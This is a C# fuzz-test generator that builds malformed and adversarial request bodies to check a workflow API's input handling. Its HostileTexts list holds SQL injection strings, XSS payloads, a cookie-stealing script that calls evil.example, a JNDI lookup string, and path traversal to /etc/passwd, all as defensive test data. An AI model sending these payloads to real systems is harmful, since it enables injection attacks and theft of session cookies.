using System.Globalization;
using System.Text;
using System.Text.Unicode;

namespace GoFlow.Adapters.Http.Tests.Hosted;

/// <summary>What a generated body must get: created, refused (a 4xx), or either (never a 5xx in any case).</summary>
internal enum FuzzExpectation
{
    Created,
    Refused,
    Either,
}

/// <summary>One generated POST /workflows request.</summary>
internal sealed record FuzzBody(string Kind, byte[] Bytes, string? ContentType, FuzzExpectation Expected)
{
    public HttpRequestMessage ToRequest()
    {
        var content = new ByteArrayContent(Bytes);
        if (ContentType is not null)
        {
            content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
        }

        return new HttpRequestMessage(HttpMethod.Post, "/workflows") { Content = content };
    }

    /// <summary>The start of the body, readable in a failure message: invalid bytes as \xNN, the rest elided.</summary>
    public string Preview(int maxChars = 300)
    {
        var text = new StringBuilder();
        var bytes = Bytes.AsSpan();
        while (!bytes.IsEmpty && text.Length < maxChars)
        {
            var status = System.Text.Rune.DecodeFromUtf8(bytes, out var rune, out var consumed);
            if (status == System.Buffers.OperationStatus.Done && rune.Value >= 0x20)
            {
                text.Append(rune.ToString());
            }
            else
            {
                for (var index = 0; index < Math.Max(consumed, 1); index++)
                {
                    text.Append(CultureInfo.InvariantCulture, $"\\x{bytes[index]:X2}");
                }
            }

            bytes = bytes[Math.Max(consumed, 1)..];
        }

        return bytes.IsEmpty ? text.ToString() : $"{text}... ({Bytes.Length} bytes)";
    }
}

/// <summary>
/// Generates POST /workflows bodies from a seeded <see cref="Random"/>: valid starts with random JSON, hostile text
/// (SQL, markup), wrong types, unknown names, deep nesting, huge strings, invalid UTF-8, unpaired surrogates,
/// duplicate keys, truncated and mutated JSON, garbage and wrong content types. The same seed gives the same bodies.
/// </summary>
internal sealed class StartBodyGenerator(Random random, ApiOptions limits)
{
    /// <summary>Text that must be stored and returned as it is, never interpreted.</summary>
    public static readonly string[] HostileTexts =
    [
        "'; DROP TABLE workflow_instances; --",
        "\" OR \"1\"=\"1",
        "1' OR '1'='1' /*",
        "Robert'); DELETE FROM tasks WHERE 1=1; --",
        "1; SELECT * FROM activity_logs",
        "' UNION SELECT id, current_input FROM workflow_instances --",
        "`id`; SHOW TABLES;",
        "\\'; SLEEP(5); --",
        "%' AND workflow_name LIKE '%",
        "0x27 CHAR(39) \\x27 \\' \\\\",
        "$1 $$ ?? @Id :name",
        "JSON_EXTRACT(current_input, '$.a')",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=\"alert(1)\">",
        "</script><script>fetch('//evil.example/'+document.cookie)</script>",
        "<![CDATA[ <b>bold</b> ]]>",
        "&lt;b&gt; &amp; &quot; &#x27;",
        "javascript:alert(1)",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "C:\\Windows\\System32\\",
        "line one\r\nline two\n\ttabbed",
        "nul \u0000 bell \u0007 escape \u001b",
        "zero\u200Bwidth \u200E\u202Eright-to-left override",
        "\uFEFFbyte order mark inside",
        "line\u2028separator\u2029paragraph",
        "e\u0301 (combining) ı İ ß ẞ ﬃ",
        "emoji 😀👩‍👩‍👧 flags 🇩🇪",
        "中文 日本語 한국어 العربية עברית",
        "\uFFFD\uFFFF\uFFFE noncharacters",
        "\\u0000 as text, not an escape",
        "\"quoted\" and \\backslashed\\",
        "/slashes/ and \\/escaped",
        "   leading and trailing spaces   ",
        "",
    ];

    private static readonly string[] WorkflowNames = ["OrderProcess", "UserOnboarding"];
    private static readonly string[] Whitespace = [" ", "\n", "\t", "\r\n", "  ", "\n    "];

    private static readonly byte[][] InvalidUtf8 =
    [
        [0xFF],
        [0xFE],
        [0x80],
        [0xBF, 0xBF],
        [0xC3],
        [0xC3, 0x28],
        [0xC0, 0xAF],
        [0xE2, 0x82],
        [0xE0, 0x80, 0xAF],
        [0xED, 0xA0, 0x80],
        [0xED, 0xBF, 0xBF],
        [0xF0, 0x28, 0x8C, 0xBC],
        [0xF4, 0x90, 0x80, 0x80],
        [0xF8, 0x88, 0x80, 0x80, 0x80],
    ];

    public FuzzBody Next()
    {
        var roll = random.Next(100);
        return roll switch
        {
            < 30 => Valid(),
            < 38 => Hostile(),
            < 46 => WrongType(),
            < 51 => UnknownName(),
            < 61 => Deep(),
            < 63 => HugeString(),
            < 70 => InvalidUtf8Bytes(),
            < 74 => UnpairedSurrogate(),
            < 79 => DuplicateKeys(),
            < 86 => Truncated(),
            < 90 => Garbage(),
            < 93 => ContentType(),
            < 96 => StartAt(),
            _ => Mutated(),
        };
    }

    private FuzzBody Valid()
    {
        var payload = random.Next(10) == 0 ? null : ObjectValue(random.Next(1, limits.MaxPayloadDepth + 1), budget: 60);
        return Json("valid", Body(Pick(WorkflowNames), payload), FuzzExpectation.Created);
    }

    private FuzzBody Hostile()
    {
        var members = new List<string>();
        var keys = new HashSet<string>(StringComparer.Ordinal);
        for (var count = random.Next(1, 8); members.Count < count;)
        {
            var key = Pick(HostileTexts);
            if (!keys.Add(key))
            {
                continue;
            }

            var value = random.Next(4) switch
            {
                0 => "[" + string.Join(",", Enumerable.Range(0, random.Next(1, 4)).Select(_ => StringLiteral(Pick(HostileTexts)))) + "]",
                1 => "{" + StringLiteral("inner") + ":" + StringLiteral(Pick(HostileTexts)) + "}",
                _ => StringLiteral(Pick(HostileTexts)),
            };
            members.Add(StringLiteral(key) + Ws() + ":" + Ws() + value);
        }

        return Json("hostile-text", Body(Pick(WorkflowNames), "{" + string.Join(",", members) + "}"), FuzzExpectation.Created);
    }

    private FuzzBody WrongType()
    {
        string[] wrongNames = ["42", "-1.5", "true", "false", "[\"OrderProcess\"]", "{\"name\":\"OrderProcess\"}", "null", "\"\"", "\"   \""];
        string[] wrongPayloads = ["[]", "[{\"a\":1}]", "\"{}\"", "\"text\"", "0", "1e3", "true", "false", "null"];
        return random.Next(3) switch
        {
            0 => Json("wrong-type:name", Body(rawName: Pick(wrongNames), payload: ObjectValue(2, 10)), FuzzExpectation.Refused),
            1 => Json("wrong-type:payload", Body(Pick(WorkflowNames), Pick(wrongPayloads)), FuzzExpectation.Refused),
            _ => Json("wrong-type:name-left-out", "{\"input_payload\":" + ObjectValue(2, 10) + "}", FuzzExpectation.Refused),
        };
    }

    private FuzzBody UnknownName()
    {
        var name = random.Next(5) switch
        {
            0 => new string('N', 256),
            1 => new string('N', random.Next(255, 2000)),
            2 => Pick(HostileTexts),
            3 => "OrderProcess ",
            _ => RandomText(),
        };
        if (WorkflowNames.Contains(name))
        {
            name += "-unknown";
        }

        return Json("unknown-name", Body(name, ObjectValue(2, 10)), FuzzExpectation.Refused);
    }

    private FuzzBody Deep()
    {
        var max = limits.MaxPayloadDepth;
        int[] depths = [max - 1, max, max, max + 1, max + 1, max + 2, random.Next(max + 1, 200), random.Next(1_000, 50_000)];
        var depth = depths[random.Next(depths.Length)];
        return Json($"deep:{depth}", Body(Pick(WorkflowNames), Spine(depth)), depth <= max ? FuzzExpectation.Created : FuzzExpectation.Refused);
    }

    private FuzzBody HugeString()
    {
        var limit = limits.MaxRequestBodyBytes;
        int[] sizes = [limit, limit - random.Next(1, 2000), limit + 1, limit + random.Next(2, 5000), (2 * limit) + random.Next(1000)];
        var size = sizes[random.Next(sizes.Length)];
        var start = Encoding.UTF8.GetBytes($"{{\"workflow_name\":\"{Pick(WorkflowNames)}\",\"input_payload\":{{\"blob\":\"");
        var end = "\"}}"u8.ToArray();
        var filler = new List<byte>(size);
        var room = size - start.Length - end.Length;
        while (filler.Count < room)
        {
            // Mostly ASCII, with some multi-byte characters and escapes, as long as they still fit exactly.
            var piece = random.Next(20) switch
            {
                0 => "é",
                1 => "😀",
                2 => "\\n",
                3 => "\\u00e9",
                _ => "x",
            };
            var bytes = Encoding.UTF8.GetBytes(piece);
            filler.AddRange(filler.Count + bytes.Length <= room ? bytes : "x"u8.ToArray());
        }

        return new FuzzBody($"huge-string:{size}", [.. start, .. filler, .. end], "application/json",
            size <= limit ? FuzzExpectation.Created : FuzzExpectation.Refused);
    }

    private FuzzBody InvalidUtf8Bytes()
    {
        var valid = Encoding.UTF8.GetBytes(Body(Pick(WorkflowNames), ObjectValue(3, 20)));
        var invalid = InvalidUtf8[random.Next(InvalidUtf8.Length)];
        var at = random.Next(valid.Length + 1);
        byte[] body = [.. valid.AsSpan(0, at), .. invalid, .. valid.AsSpan(at)];
        return new FuzzBody("invalid-utf8", body, "application/json",
            Utf8.IsValid(body) ? FuzzExpectation.Either : FuzzExpectation.Refused);
    }

    private FuzzBody UnpairedSurrogate()
    {
        var high = $"\\u{random.Next(0xD800, 0xDC00):x4}";
        var low = $"\\u{random.Next(0xDC00, 0xE000):X4}";
        var escape = random.Next(3) switch
        {
            0 => high,
            1 => low,
            _ => low + high,
        };
        // Letters only around the escape: a backslash before it would turn it into plain text ("\\ud800").
        var text = "\"" + RandomLetters(5) + escape + RandomLetters(5) + "\"";
        var payload = random.Next(2) == 0 ? "{\"note\":" + text + "}" : "{" + text + ":1}";
        return Json("unpaired-surrogate", Body(Pick(WorkflowNames), payload), FuzzExpectation.Refused);
    }

    private FuzzBody DuplicateKeys()
    {
        var name = Pick(WorkflowNames);
        var body = random.Next(4) switch
        {
            0 => $"{{\"workflow_name\":\"{name}\",\"workflow_name\":\"{name}\"}}",
            1 => $"{{\"workflow_name\":\"{name}\",\"input_payload\":{{}},\"input_payload\":{{\"a\":1}}}}",
            2 => Body(name, "{\"amount\":1,\"note\":\"x\",\"amount\":2}"),
            _ => Body(name, "{\"outer\":{\"a\":1,\"\\u0061\":2}}"),
        };
        return Json("duplicate-keys", body, FuzzExpectation.Refused);
    }

    private FuzzBody Truncated()
    {
        var valid = Encoding.UTF8.GetBytes(Body(Pick(WorkflowNames), ObjectValue(random.Next(1, 6), 20)));
        // Cut before the body's closing brace, so that what is left can never be a whole JSON object.
        var cut = random.Next(Array.LastIndexOf(valid, (byte)'}'));
        return new FuzzBody("truncated", valid[..cut], "application/json", FuzzExpectation.Refused);
    }

    private FuzzBody Garbage()
    {
        string[] texts =
        [
            "", " ", "null", "[]", "\"OrderProcess\"", "42", "{}", "<workflow name=\"OrderProcess\"/>",
            "workflow_name=OrderProcess", "{\"workflow_name\":\"OrderProcess\"", "}{", "{\"workflow_name\":'OrderProcess'}",
            "{workflow_name:\"OrderProcess\"}", "{\"workflow_name\":\"OrderProcess\",}",
            "/* comment */{\"workflow_name\":\"OrderProcess\"}", "{\"workflow_name\":\"OrderProcess\"} {}",
            "{\"workflow_name\":\"OrderProcess\",\"input_payload\":{\"n\":NaN}}",
            "{\"workflow_name\":\"OrderProcess\",\"input_payload\":{\"n\":01}}",
            "{\"workflow_name\":\"OrderProcess\",\"input_payload\":{\"n\":.5}}",
            "{\"workflow_name\":\"OrderProcess\",\"input_payload\":{\"s\":\"tab\there\"}}",
            "{\"workflow_name\":\"OrderProcess\",\"input_payload\":{\"s\":\"bad \\x escape\"}}",
        ];
        return random.Next(3) switch
        {
            0 => new FuzzBody("garbage:bytes", RandomBytes(random.Next(0, 300)), "application/json", FuzzExpectation.Refused),
            1 => Json("garbage:ascii", RandomAscii(random.Next(1, 300)), FuzzExpectation.Refused),
            _ => Json("garbage:near-json", Pick(texts), FuzzExpectation.Refused),
        };
    }

    private FuzzBody ContentType()
    {
        string?[] refused =
        [
            null, "text/plain", "application/xml", "application/json; charset=utf-16", "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded", "json", "text/json", "application/problem+json", "application/merge-patch+json",
            "application/json; charset=utf-8; charset=latin1", "application/json; charset=\"utf-16\"",
        ];
        string[] accepted =
        [
            "application/json; charset=utf-8", "APPLICATION/JSON", "application/json;charset=UTF8",
            "application/json; charset=\"UTF-8\"",
        ];
        var body = Encoding.UTF8.GetBytes(Body(Pick(WorkflowNames), ObjectValue(2, 10)));
        return random.Next(2) == 0
            ? new FuzzBody("content-type:refused", body, refused[random.Next(refused.Length)], FuzzExpectation.Refused)
            : new FuzzBody("content-type:accepted", body, Pick(accepted), FuzzExpectation.Created);
    }

    /// <summary>A delayed start: good times (past ones mean now), and times without an offset, absurd or overflowing, or of another JSON type.</summary>
    private FuzzBody StartAt()
    {
        var soon = DateTimeOffset.UtcNow.AddDays(random.Next(1, 3000));
        string[] accepted =
        [
            "null",
            StringLiteral(soon.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture)),
            StringLiteral(soon.ToOffset(TimeSpan.FromHours(random.Next(-12, 15))).ToString("yyyy-MM-dd'T'HH:mm:ss.fffffffzzz", CultureInfo.InvariantCulture)),
            StringLiteral(soon.ToString("yyyy-MM-dd'T'HH:mm'Z'", CultureInfo.InvariantCulture)),
            "\"2001-01-01T00:00:00+00:00\"",
            "\"0001-01-01T00:00:00Z\"",
            "\"1970-01-01T00:00:00.5-08:00\"",
        ];
        string[] refused =
        [
            "\"2026-05-01T09:00:00\"", "\"2026-05-01\"", "\"09:00:00Z\"", "\"2026-05-01 09:00:00Z\"", "\"99999-01-01T00:00:00Z\"",
            "\"+275760-09-13T00:00:00Z\"", "\"9999-12-31T23:59:59-14:00\"", "\"0000-01-01T00:00:00Z\"", "\"2026-05-01T09:00:00+25:00\"",
            "\"2026-13-01T00:00:00Z\"", "\"2026-02-30T00:00:00Z\"", "\"2026-05-01T24:00:00Z\"", "\"9999-12-31T23:59:59Z\"",
            "\"2300-01-01T00:00:00Z\"", "\"now\"", "\"\"", "\"2026-05-01T09:00:00.12345678Z\"", "\"2026-05-01T09:00:00+0200\"",
            "1777626000", "-1", "1e400", "true", "false", "[]", "{}", "[\"2026-05-01T09:00:00Z\"]",
            StringLiteral(Pick(HostileTexts)),
        ];
        return random.Next(2) == 0
            ? Json("start-at:accepted", Body(Pick(WorkflowNames), ObjectValue(2, 10), rawStartAt: Pick(accepted)), FuzzExpectation.Created)
            : Json("start-at:refused", Body(Pick(WorkflowNames), ObjectValue(2, 10), rawStartAt: Pick(refused)), FuzzExpectation.Refused);
    }

    private FuzzBody Mutated()
    {
        var bytes = Encoding.UTF8.GetBytes(Body(Pick(WorkflowNames), ObjectValue(random.Next(1, 5), 20))).ToList();
        for (var mutations = random.Next(1, 5); mutations > 0 && bytes.Count > 1; mutations--)
        {
            var at = random.Next(bytes.Count);
            switch (random.Next(4))
            {
                case 0:
                    bytes[at] = (byte)random.Next(256);
                    break;
                case 1:
                    bytes.Insert(at, (byte)random.Next(256));
                    break;
                case 2:
                    bytes.RemoveAt(at);
                    break;
                default:
                    var length = random.Next(1, Math.Min(20, bytes.Count - at) + 1);
                    bytes.InsertRange(at, bytes.GetRange(at, length));
                    break;
            }
        }

        return new FuzzBody("mutated", [.. bytes], "application/json", FuzzExpectation.Either);
    }

    /// <summary>A start body; the members come in random order, sometimes with extra members the API ignores.</summary>
    private string Body(string? name = null, string? payload = null, string? rawName = null, string? rawStartAt = null)
    {
        var members = new List<string>();
        if (rawStartAt is not null)
        {
            members.Add("\"start_at\"" + Ws() + ":" + Ws() + rawStartAt);
        }

        if (rawName is not null || name is not null)
        {
            members.Add("\"workflow_name\"" + Ws() + ":" + Ws() + (rawName ?? StringLiteral(name!)));
        }

        if (payload is not null)
        {
            members.Add("\"input_payload\"" + Ws() + ":" + Ws() + payload);
        }

        if (random.Next(5) == 0)
        {
            members.Add(StringLiteral("extra_" + RandomAscii(4)) + ":" + Value(2, 5));
        }

        var shuffled = members.OrderBy(_ => random.Next()).ToList();
        return Ws() + "{" + Ws() + string.Join(Ws() + "," + Ws(), shuffled) + Ws() + "}" + Ws();
    }

    /// <summary>A JSON object nested at most <paramref name="levels"/> deep, with about <paramref name="budget"/> values.</summary>
    private string ObjectValue(int levels, int budget)
    {
        var keys = new HashSet<string>(StringComparer.Ordinal);
        var members = new List<string>();
        for (var count = random.Next(0, 6); members.Count < count && budget > 0; budget--)
        {
            var key = RandomText();
            if (keys.Add(key))
            {
                members.Add(StringLiteral(key) + Ws() + ":" + Ws() + Value(levels - 1, budget / 2));
            }
        }

        return "{" + Ws() + string.Join(Ws() + "," + Ws(), members) + Ws() + "}";
    }

    private string ArrayValue(int levels, int budget)
    {
        var items = Enumerable.Range(0, random.Next(0, 5)).Select(_ => Value(levels - 1, budget / 2));
        return "[" + Ws() + string.Join(Ws() + "," + Ws(), items) + Ws() + "]";
    }

    /// <summary>Any JSON value with at most <paramref name="levels"/> levels of objects and arrays (0: a scalar).</summary>
    private string Value(int levels, int budget)
    {
        if (levels <= 0 || budget <= 0 || random.Next(3) != 0)
        {
            return random.Next(4) switch
            {
                0 or 1 => StringLiteral(RandomText()),
                2 => Number(),
                _ => Pick(["true", "false", "null"]),
            };
        }

        return random.Next(2) == 0 ? ObjectValue(levels, budget) : ArrayValue(levels, budget);
    }

    /// <summary>An object exactly <paramref name="levels"/> levels deep: a spine of objects and arrays.</summary>
    private string Spine(int levels)
    {
        var open = new StringBuilder("{\"level\":1,\"next\":");
        var closers = new List<char> { '}' };
        for (var level = 2; level <= levels; level++)
        {
            // Siblings only on short spines, so that a spine 50,000 deep stays far below the size limit.
            var sibling = levels < 100 && random.Next(3) == 0 ? Value(0, 1) + "," : string.Empty;
            if (random.Next(2) == 0)
            {
                open.Append('[').Append(sibling);
                closers.Add(']');
            }
            else
            {
                open.Append('{').Append(sibling.Length > 0 ? "\"s\":" + sibling : string.Empty).Append("\"n\":");
                closers.Add('}');
            }
        }

        // Every container opened above still expects a value: the innermost is a scalar, which adds no level.
        closers.Reverse();
        return open.Append("\"leaf\"").Append(closers.ToArray()).ToString();
    }

    private string Number() => random.Next(6) switch
    {
        0 => random.NextInt64(-1_000_000_000_000_000, 1_000_000_000_000_000).ToString(CultureInfo.InvariantCulture),
        1 => Pick(["0", "-0", "0.0", "1e0", "1E+2", "-2.5e-3", "3.141592653589793", "1e308", "-1e-308", "1e400"]),
        2 => "123456789012345678901234567890" + random.Next(1000).ToString(CultureInfo.InvariantCulture),
        3 => random.NextDouble().ToString("R", CultureInfo.InvariantCulture),
        4 => (random.Next(2) == 0 ? "-" : string.Empty) + random.Next(1, 10).ToString(CultureInfo.InvariantCulture) + "."
            + random.Next(0, 100000).ToString(CultureInfo.InvariantCulture) + "e" + random.Next(-400, 400).ToString(CultureInfo.InvariantCulture),
        _ => random.Next(int.MinValue, int.MaxValue).ToString(CultureInfo.InvariantCulture),
    };

    /// <summary>Text of valid Unicode (no unpaired surrogate), from SQL and markup to controls and emoji.</summary>
    private string RandomText() => random.Next(5) switch
    {
        0 => Pick(HostileTexts),
        1 => RandomAscii(random.Next(0, 40)),
        2 => RandomUnicode(random.Next(0, 20)),
        3 => Pick(HostileTexts) + RandomUnicode(3) + RandomAscii(3),
        _ => RandomAscii(random.Next(1, 8)),
    };

    private string RandomUnicode(int length)
    {
        (int From, int To)[] ranges =
        [
            (0x00, 0x1F), (0x7F, 0x7F), (0xA0, 0xFF), (0x370, 0x3FF), (0x400, 0x4FF), (0x300, 0x36F), (0x4E00, 0x9FFF),
            (0x1F300, 0x1F6FF), (0x200B, 0x200F), (0x2028, 0x202E), (0xFEFF, 0xFEFF), (0xFFF9, 0xFFFF), (0x10000, 0x1000F),
            (0x10FFF0, 0x10FFFF),
        ];
        var text = new StringBuilder();
        for (var index = 0; index < length; index++)
        {
            var (from, to) = ranges[random.Next(ranges.Length)];
            text.Append(char.ConvertFromUtf32(random.Next(from, to + 1)));
        }

        return text.ToString();
    }

    private string RandomAscii(int length)
    {
        var text = new char[length];
        for (var index = 0; index < length; index++)
        {
            text[index] = (char)random.Next(0x20, 0x7F);
        }

        return new string(text);
    }

    private string RandomLetters(int length)
    {
        var text = new char[length];
        for (var index = 0; index < length; index++)
        {
            text[index] = (char)random.Next('a', 'z' + 1);
        }

        return new string(text);
    }

    private byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    /// <summary>A JSON string literal for <paramref name="value"/>, escaped in one of the many ways JSON allows.</summary>
    private string StringLiteral(string value)
    {
        var text = new StringBuilder("\"");
        foreach (var rune in value.EnumerateRunes())
        {
            var code = rune.Value;
            if (code == '"')
            {
                text.Append("\\\"");
            }
            else if (code == '\\')
            {
                text.Append("\\\\");
            }
            else if (code < 0x20)
            {
                var shortEscape = code switch
                {
                    '\b' => "\\b",
                    '\f' => "\\f",
                    '\n' => "\\n",
                    '\r' => "\\r",
                    '\t' => "\\t",
                    _ => null,
                };
                text.Append(shortEscape is not null && random.Next(2) == 0 ? shortEscape : UnicodeEscape(code));
            }
            else if (code == '/' && random.Next(5) == 0)
            {
                text.Append("\\/");
            }
            else if (random.Next(7) == 0)
            {
                // Escaped as \uXXXX, a character outside the BMP as its surrogate pair.
                foreach (var unit in rune.ToString())
                {
                    text.Append(UnicodeEscape(unit));
                }
            }
            else
            {
                text.Append(rune.ToString());
            }
        }

        return text.Append('"').ToString();
    }

    private string UnicodeEscape(int unit) =>
        "\\u" + unit.ToString(random.Next(2) == 0 ? "x4" : "X4", CultureInfo.InvariantCulture);

    private string Ws() => random.Next(10) < 7 ? string.Empty : Whitespace[random.Next(Whitespace.Length)];

    private T Pick<T>(T[] choices) => choices[random.Next(choices.Length)];

    private static FuzzBody Json(string kind, string text, FuzzExpectation expected) =>
        new(kind, Encoding.UTF8.GetBytes(text), "application/json", expected);
}
